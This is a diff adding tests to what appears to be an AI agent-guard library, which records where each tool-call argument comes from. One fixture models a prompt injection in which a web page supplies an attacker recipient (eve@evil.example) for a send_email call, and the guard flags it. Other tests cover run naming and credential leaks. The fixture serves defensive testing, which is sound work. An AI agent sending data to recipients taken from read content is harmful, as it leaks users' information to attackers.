@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { createHash } from 'node:crypto';
 import test from 'node:test';
 import type { JsonObject } from '../kernel/index.ts';
 import { ConversationMemory, KnownTexts } from '../flow/index.ts';
@@ -27,6 +28,7 @@ function flow(kept: FlowMemory, body: JsonObject, owner = 'ann'): RequestFlow {
     memory: kept,
     owner,
     tools: request.tools,
+    name: (text) => createHash('sha256').update(text).digest('hex'),
     restore: (text) => text,
   });
 }
@@ -126,4 +128,55 @@ test('a credential that a detector finds in a result does not leave with a call'
   };
   assert.deepEqual(reasons(`account ${key} here`, `see ${key}`), ['secret_to_outside']);
   assert.deepEqual(reasons('account AKIA here', 'see AKIA'), []);
+});
+
+test('a run has one name in all its requests, another one in another run and for another owner', () => {
+  const kept = memory();
+  const first = flow(kept, { input: ASK });
+  assert.equal(first.conversation(), undefined, 'before the first call it is no run');
+  first.verdict(READ);
+  const name = first.conversation();
+  assert.match(name ?? '', /^run_[0-9a-f]{32}$/);
+  const later = [
+    { role: 'user', content: ASK },
+    { type: 'function_call', call_id: READ.id ?? '', name: READ.name, arguments: READ.arguments },
+    { type: 'function_call_output', call_id: READ.id ?? '', output: PAGE },
+  ];
+  const second = flow(kept, { input: later });
+  assert.equal(second.conversation(), name);
+  assert.notEqual(flow(kept, { input: later }, 'bert').conversation(), name);
+  const other = flow(kept, { input: ASK });
+  other.verdict({ ...READ, id: 'call_0000000000000001' });
+  assert.notEqual(other.conversation(), name);
+});
+
+test('the record tells where each value of a call comes from, and nothing of what it is', () => {
+  const body = {
+    input: [
+      { role: 'user', content: ASK },
+      { type: 'function_call', call_id: READ.id ?? '', name: READ.name, arguments: READ.arguments },
+      { type: 'function_call_output', call_id: READ.id ?? '', output: PAGE },
+    ],
+  };
+  const asked = flow(memory(), body);
+  const call: AskedCall = { name: 'send_email', arguments: '{"body":"40","to":["bob@north.example","eve@evil.example"]}', id: 'call_2' };
+  asked.findings(call, 7);
+  const { calls, messages } = asked.record();
+  assert.deepEqual(
+    messages.map(({ message, origin, tool }) => [message, origin, tool]),
+    [[2, 'tool', 'get_webpage']],
+  );
+  assert.equal(calls.length, 1);
+  const [made] = calls;
+  assert.deepEqual([made?.tool, made?.effect, made?.part, made?.flow], ['send_email', 'egress', 7, 'ask']);
+  assert.deepEqual(made?.reasons, ['receiver_from_content']);
+  assert.deepEqual(
+    made?.values.map(({ argument, kind, origin, message, tool, reasons }) => [argument, kind, origin, message, tool, reasons]),
+    [
+      ['to[1]', 'email', 'prose', 2, 'get_webpage', ['receiver_from_content']],
+      ['body', 'number', 'prose', 2, 'get_webpage', []],
+      ['to[0]', 'email', 'user', 0, undefined, []],
+    ],
+  );
+  assert.ok(!JSON.stringify(asked.record()).includes('example'), 'no text');
 });
